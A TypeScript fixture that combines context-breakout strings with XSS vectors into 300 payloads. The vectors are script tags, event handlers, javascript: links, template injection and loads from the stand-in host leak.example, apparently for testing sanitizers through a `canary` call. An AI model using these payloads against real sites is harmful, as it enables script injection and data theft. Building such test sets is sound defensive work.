/** Ways out of where a text may stand: an attribute, a script, a comment, raw text, another document. */
const breakouts: readonly string[] = [
  '',
  '">',
  "'>",
  '` >',
  '</title>',
  '</textarea></select>',
  '</script>',
  '</style>',
  '-->',
  ']]>',
  '</template></svg>',
  '&quot;&gt;',
  '\\u0022\\u003e',
  '<!--?lit$-->',
  '\u202E\u0000">'.replace('\u0000', '\u200B'),
];

/** What would run, or leave, if it were taken for more than text. Each calls `canary` or asks `leak.example`. */
const vectors: readonly string[] = [
  '<script>canary(1)</script>',
  '<img src=x onerror=canary(1)>',
  '<svg/onload=canary(1)>',
  '<svg><script href="https://leak.example/a.js"/></svg>',
  '<iframe srcdoc="<script>parent.canary(1)</script>">',
  '<a href="javascript:canary(1)">click</a>',
  '<details open ontoggle=canary(1)>',
  '<input autofocus onfocus=canary(1)>',
  '<style>@import "https://leak.example/a.css"</style>',
  '<link rel=stylesheet href=//leak.example/b.css>',
  '<img src=//leak.example/c.png>',
  '<meta http-equiv=refresh content="0;url=https://leak.example/">',
  '<base href=//leak.example/>',
  '<form action=//leak.example/><button>',
  '<object data=//leak.example/d.html></object>',
  '<math><mtext><img src=x onerror=canary(1)></mtext></math>',
  ' onmouseover=canary(1) style=animation-name:x onanimationstart=canary(1) x=',
  '${canary(1)}{{constructor.constructor("canary(1)")()}}',
  '&lt;script&gt;canary(1)&lt;/script&gt;',
  '\u001B]8;;https://leak.example/\u0007x\u001B[2J',
];

/** 300: each way out with each thing that would run. */
export const payloads: readonly string[] = breakouts.flatMap((out) => vectors.map((vector) => `${out}${vector}`));
